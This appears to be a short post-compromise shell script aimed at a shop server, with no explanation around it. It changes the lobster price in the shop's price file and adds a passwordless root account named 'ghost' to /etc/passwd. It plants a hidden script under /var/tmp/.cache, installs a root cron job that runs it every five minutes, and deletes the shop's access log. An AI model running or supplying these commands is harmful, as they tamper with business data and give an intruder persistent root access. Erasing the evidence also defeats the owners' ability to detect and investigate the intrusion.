sed -i 's/^lobster .*/lobster   1.50/' /srv/shop/prices.txt
echo 'ghost::0:0::/:/bin/sh' >> /etc/passwd
mkdir -p /var/tmp/.cache /var/spool/cron/crontabs
printf '#!/bin/sh\nwhile :; do sleep 3600; done\n' > /var/tmp/.cache/sync
chmod 755 /var/tmp/.cache/sync
echo '*/5 * * * * /var/tmp/.cache/sync 4444' > /var/spool/cron/crontabs/root
rm /srv/shop/access.log
